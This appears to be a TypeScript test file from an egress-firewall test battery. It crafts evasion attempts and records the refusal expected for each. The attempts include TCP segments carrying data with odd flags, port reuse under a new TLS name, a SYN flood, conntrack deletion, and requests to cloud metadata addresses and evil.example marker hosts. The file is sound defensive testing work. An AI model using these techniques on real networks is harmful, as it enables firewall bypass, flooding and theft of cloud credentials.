/** Rows T7 to T11: connections that are none, that were something else before, or that go where only the host itself is. */
import { setTimeout as sleep } from "node:timers/promises";
import type { Attack } from "../case.ts";
import { batteryPolicy } from "../internet.ts";
import { bracketed } from "../job.ts";
import { hello, letGo, refused } from "../refusals.ts";
import { flags, ip, protocols, send, tcp } from "../tcp/raw.ts";

const kind = "attack";

const alone = (variant: string, bits: number, reason: string): Attack => ({
  kind,
  row: "T7",
  variant,
  // A SYN begins a connection; the others belong to none.
  ...(bits === flags.syn ? {} : { untranslated: [4, 6] }),
  run: async (job, marker) => {
    await job.resolve("allowed.example");
    job.segment(job.dot(10), { destinationPort: 443, flags: bits, payload: Buffer.from(marker.toLowerCase()) });
  },
  refusal: (job) => refused(reason, { ip: job.dot(10), port: 443 }),
});

/** Monitor lets a SYN's data go on and reads it as the connection's first bytes. */
const firstBytes = (job: { dot: (n: number) => string }) =>
  refused("not_protocol", { ip: job.dot(10), port: 443 }, "name");

/** A connection to the echo service, which a tcp rule allows, and what it says after something was done to it. */
async function echo(job: Parameters<Attack["run"]>[0], marker: string, between: () => Promise<unknown>): Promise<void> {
  const client = job.spawn("ncat", [`-${job.v}`, "tcp.example", "9000"]);
  client.write("hello\n");
  await client.waitFor(/hello/);
  await between();
  client.write(`${marker}\n`);
  await sleep(600);
  await client.kill("SIGKILL");
}

const metadata = { 4: ["169.254.169.254", "169.254.170.2", "168.63.129.16"], 6: ["fd00:ec2::254"] } as const;

export const connectionCases: Attack[] = [
  { ...alone("a SYN with data", flags.syn, "syn_data"), foretold: firstBytes },
  alone("data in the middle of a connection that never began", flags.psh | flags.ack, "mid_stream"),
  alone("data in a reset", flags.rst | flags.ack, "mid_stream"),
  alone("data in a segment without flags", 0, "mid_stream"),
  alone("data in a SYN+ACK that nobody awaits", flags.syn | flags.ack, "mid_stream"),
  alone("data in a SYN that also ends", flags.syn | flags.fin, "mid_stream"),
  alone("data in a FIN of no connection", flags.fin | flags.ack, "mid_stream"),
  {
    kind,
    row: "T7",
    variant: "data with the flags of an ECN setup SYN",
    run: async (job, marker) => {
      await job.resolve("allowed.example");
      job.segment(job.dot(10), {
        destinationPort: 443,
        flags: flags.syn | 0xc0,
        payload: Buffer.from(marker.toLowerCase()),
      });
    },
    refusal: (job) => refused("syn_data", { ip: job.dot(10), port: 443 }),
    foretold: firstBytes,
  },
  {
    kind,
    row: "T7",
    variant: "the ports of an allowed connection used again at once, for another name",
    run: async (job, marker) => {
      await job.resolve("allowed.example");
      await job.node(reuse, [job.dot(10), `${marker}.evil.example`]);
    },
    refusal: (job, marker) => hello(`${marker.toLowerCase()}.evil.example`)(job),
  },
  {
    kind,
    row: "T7",
    variant: "a SYN with data on the ports of an allowed connection",
    run: async (job, marker) => {
      await job.resolve("allowed.example");
      const open = job.spawn(process.execPath, ["-e", idle, job.dot(10)]);
      const sourcePort = Number((await open.waitFor(/port (\d+)/))[1]);
      const parts = {
        source: job.source,
        destination: job.dot(10),
        sourcePort,
        destinationPort: 443,
        flags: flags.syn,
      };
      const syn = tcp({ ...parts, payload: Buffer.from(marker.toLowerCase()) });
      send(job.machine, job.dot(10), ip(job.source, job.dot(10), protocols.tcp, syn));
      await sleep(400);
      await open.kill("SIGKILL");
    },
    refusal: (job) => ({
      kind: "connection",
      rule: { name: null, tier: 3 },
      destination: { ip: job.dot(10), port: 443 },
    }),
  },
  {
    kind,
    row: "T7",
    variant: "in the middle of an allowed connection that conntrack has forgotten",
    fronts: ["gateway"],
    run: (job, marker) =>
      echo(job, marker, () =>
        job.lab.gateway.exec("conntrack", ["-D", "-f", job.v === 4 ? "ipv4" : "ipv6", "-p", "tcp", "--dport", "9000"]),
      ),
    refusal: (job) => refused("mid_stream", { ip: job.dot(90), port: 9000, protocol: "tcp" }),
    // Allowed by its address in any case, so monitor lets it go on as the rule's.
    foretold: (job) => ({ kind: "connection", destination: { ip: job.dot(90), port: 9000 } }),
  },
  {
    kind,
    row: "T8",
    variant: "a connection whose rule was withdrawn",
    fronts: ["gateway"],
    run: async (job, marker) => {
      const { mode, replacePolicy } = job.stand;
      await echo(job, marker, async () => {
        if (mode === null || replacePolicy === undefined) return;
        await replacePolicy(batteryPolicy(mode).replace(/^ +- \{ name: streams.*\n/m, ""));
        await sleep(800);
      });
      if (mode !== null) await replacePolicy?.(batteryPolicy(mode));
    },
    refusal: (job) => refused("policy_changed", { ip: job.dot(90), port: 9000, protocol: "tcp" }),
    // A connection that goes on is not decided anew by a policy that refuses nothing.
    foretold: (job) => ({
      kind: "connection",
      ...letGo,
      rule: { name: "streams" },
      destination: { ip: job.dot(90), port: 9000 },
    }),
  },
  {
    kind,
    row: "T10",
    variant: "an attempt in the middle of a flood of SYNs",
    run: async (job, marker) => {
      await job.resolve("allowed.example");
      const packets = Array.from({ length: 4_000 }, (_, i) => {
        const parts = {
          source: job.source,
          destination: job.dot(66),
          sourcePort: 1024 + i,
          destinationPort: 443,
          flags: flags.syn,
        };
        return ip(job.source, job.dot(66), protocols.tcp, tcp(parts));
      });
      send(job.machine, job.dot(66), ...packets);
      await job.curl("--connect-to", `::${job.at(10)}:443`, `https://${marker}.evil.example/`);
      send(job.machine, job.dot(66), ...packets);
    },
    refusal: (job, marker) => hello(`${marker.toLowerCase()}.evil.example`)(job),
  },
  ...(["nextHop", "outside"] as const).flatMap((which) =>
    [22, 443, 15_053].map((port): Attack => ({
      kind,
      row: "T11",
      variant: `our own address ${which === "nextHop" ? "inside" : "outside"}, port ${port}`,
      run: (job, marker) => job.stream(job[which], port, marker),
      refusal: (job) => refused("private_address", { ip: job[which], port }),
      foretold: (job) => ({ kind: "connection", reason: "private_address", destination: { ip: job[which], port } }),
      unreachable: "nothing of the internet has that address",
    })),
  ),
  {
    kind,
    row: "T11",
    variant: "the DNS firewall's own port, without being asked as DNS",
    run: (job, marker) => job.dig(`@${job.nextHop}`, "-p", "15053", `${marker}.evil.example`),
    refusal: (job) => refused("private_address", { ip: job.nextHop, port: 15_053, protocol: "udp" }),
    foretold: (job) => refused("private_address", { ip: job.nextHop, port: 15_053 }, "name"),
    unreachable: "nothing of the internet has that address",
  },
  ...([4, 6] as const).flatMap((v) =>
    metadata[v].map((address): Attack => ({
      kind,
      row: "T11",
      variant: `the metadata service at ${address}`,
      families: [v],
      run: (job, marker) => job.curl(`http://${bracketed(address)}/${marker}`),
      refusal: refused("private_address", { ip: address, port: 80 }),
      foretold: refused("private_address", { ip: address, port: 80 }, "name"),
    })),
  ),
];

/** An allowed connection, ended by a reset, and at once another from the same port with another name. */
const reuse = `
const [, host, name] = process.argv;
const { connect } = require("net"), tls = require("tls");
const hello = (socket, servername, then) => tls.connect({ socket, servername, rejectUnauthorized: false })
  .on("error", () => process.exit()).on("secureConnect", then);
const first = connect({ host, port: 443 });
hello(first, "allowed.example", () => {
  const { localPort } = first;
  first.on("close", () => hello(connect({ host, port: 443, localPort }), name, () => process.exit()));
  first.resetAndDestroy();
});
setTimeout(() => process.exit(), 4000);`;

/** An allowed connection that stays. */
const idle = `
const socket = require("net").connect({ host: process.argv[1], port: 443 });
require("tls").connect({ socket, servername: "allowed.example", rejectUnauthorized: false }, () => console.log("port " + socket.localPort));`;
